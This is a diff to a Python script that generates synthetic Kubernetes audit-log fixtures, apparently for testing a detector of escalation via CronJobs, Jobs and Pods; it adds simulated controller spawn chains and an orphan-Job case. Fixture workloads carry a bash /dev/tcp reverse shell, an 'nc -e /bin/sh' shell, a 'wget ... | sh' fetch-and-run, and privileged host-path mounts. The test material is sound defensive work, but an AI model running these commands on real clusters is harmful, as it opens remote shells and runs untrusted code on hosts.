@@ -149,6 +149,7 @@ def noise(sec):
 
 
 ALICE = "alice@example.com"
+METRICS_SYNC_UID = "0d6f2b1a-5c3e-4f4a-9e7b-2a1c3d4e5f60"
 MALLORY = "system:serviceaccount:ci:deployer"
 
 
@@ -157,8 +158,10 @@ def attack_cases(sec):
     ev = []
     rs = cronjob("metrics-sync", "prod", pod_spec([container("sync", "alpine:3.19", ["/bin/sh", "-c"],
                  ["bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"])]), "*/10 * * * *")
+    rs_resp = json.loads(json.dumps(rs))
+    rs_resp["metadata"]["uid"] = METRICS_SYNC_UID
     ev += request("create", "cronjobs", "prod", "metrics-sync", MALLORY, sec, rs,
-                  ua="python-requests/2.31.0", ip="198.51.100.23")
+                  ua="python-requests/2.31.0", ip="198.51.100.23", response=rs_resp)
     pj = job("node-debug", "default", pod_spec([container("debug", "busybox:1.36", ["sleep", "3600"], privileged=True,
              mounts=[("host-etc", "/host/etc")])], volumes=[host_path("host-etc", "/etc")], restart="Never"))
     ev += request("create", "jobs", "default", "node-debug", ALICE, sec + 20, pj)
@@ -205,6 +208,46 @@ def other_kinds(sec):
     return ev
 
 
+CRONJOB_CONTROLLER = "system:serviceaccount:kube-system:cronjob-controller"
+JOB_CONTROLLER = "system:serviceaccount:kube-system:job-controller"
+KCM_UA = "kube-controller-manager/v1.30.2 (linux/amd64) kubernetes/3c1c56d/system:serviceaccount:kube-system:%s"
+
+
+def spawn_chain(cronjob_name, ns, cronjob_uid, pod_spec_body, fire_sec):
+    """What the controllers write when a CronJob fires: a Job named <cronjob>-<minutes>, then its Pod."""
+    minutes = int((T0 + timedelta(seconds=fire_sec)).timestamp()) // 60
+    job_name = "%s-%d" % (cronjob_name, minutes)
+    job_uid = "7b1e%04d-0000-4000-8000-%012d" % (fire_sec, fire_sec)
+    owner = [{"apiVersion": "batch/v1", "kind": "CronJob", "name": cronjob_name, "uid": cronjob_uid,
+              "controller": True, "blockOwnerDeletion": True}]
+    job_body = {"kind": "Job", "apiVersion": "batch/v1",
+                "metadata": {"name": job_name, "namespace": ns, "creationTimestamp": None, "ownerReferences": owner,
+                             "annotations": {"batch.kubernetes.io/cronjob-scheduled-timestamp": S_ts(fire_sec)}},
+                "spec": {"template": {"metadata": {"creationTimestamp": None}, "spec": pod_spec_body}}, "status": {}}
+    job_resp = json.loads(json.dumps(job_body))
+    job_resp["metadata"]["uid"] = job_uid
+    ev = request("create", "jobs", ns, None, CRONJOB_CONTROLLER, fire_sec, job_body, response=job_resp,
+                 ua=KCM_UA % "cronjob-controller", ip="10.0.0.10")
+    pod_owner = [{"apiVersion": "batch/v1", "kind": "Job", "name": job_name, "uid": job_uid, "controller": True,
+                  "blockOwnerDeletion": True}]
+    labels = {"batch.kubernetes.io/controller-uid": job_uid, "batch.kubernetes.io/job-name": job_name,
+              "controller-uid": job_uid, "job-name": job_name}
+    pod_body = {"kind": "Pod", "apiVersion": "v1",
+                "metadata": {"generateName": job_name + "-", "namespace": ns, "creationTimestamp": None, "labels": labels,
+                             "ownerReferences": pod_owner, "finalizers": ["batch.kubernetes.io/job-tracking"]},
+                "spec": pod_spec_body, "status": {}}
+    pod_resp = json.loads(json.dumps(pod_body))
+    pod_resp["metadata"]["name"] = job_name + "-x7k2p"
+    pod_resp["metadata"]["uid"] = "9c2d%04d-0000-4000-8000-%012d" % (fire_sec, fire_sec)
+    ev += request("create", "pods", ns, None, JOB_CONTROLLER, fire_sec + 1, pod_body, response=pod_resp,
+                  ua=KCM_UA % "job-controller", ip="10.0.0.10", api="")
+    return ev
+
+
+def S_ts(sec):
+    return ts(sec)
+
+
 def lines(events):
     return [json.dumps(e, separators=(",", ":")) for e in events]
 
@@ -230,8 +273,16 @@ def main():
     batch_job = job("hostnet-probe", "default", pod_spec([container("probe", "nicolaka/netshoot:v0.13",
                     ["sh", "-c"], ["nc -e /bin/sh 198.51.100.7 9001"])], host_network=True, restart="Never"))
     items = noise(500) + request("create", "jobs", "default", "hostnet-probe", ALICE, 505, batch_job)
+    # The reverse-shell CronJob (created at 09:01:40, schedule */10) fires at 09:10: its Job and Pod make
+    # it an escalation. A Job spawned for a CronJob created before this log began is an orphan.
+    rs_spec = attacks[1]["requestObject"]["spec"]["jobTemplate"]["spec"]["template"]["spec"]
+    chain = spawn_chain("metrics-sync", "prod", METRICS_SYNC_UID, rs_spec, 600)
+    orphan_spec = pod_spec([container("sync", "alpine:3.19", ["/bin/sh", "-c"], ["wget -qO- http://203.0.113.9/m.sh | sh"],
+                                      mounts=[("host", "/host")])], volumes=[host_path("host", "/")])
+    orphan = spawn_chain("node-exporter-sync", "monitoring", "4e5f6a7b-0000-4000-8000-000000000001", orphan_spec, 660)
     sample.append(json.dumps({"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "metadata": {}, "items": items},
                              separators=(",", ":")))
+    sample += lines(chain + orphan)
     sample.append('{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Request","auditID":"broken-line","stage":"ResponseComplete","verb":"create","objectRef":{"resource":"cronjobs"')
     write("samples/audit.log", sample)
     write("src/test/resources/fixtures/score/attacks.jsonl", lines([e for e in attacks if e["stage"] == "ResponseComplete"]))
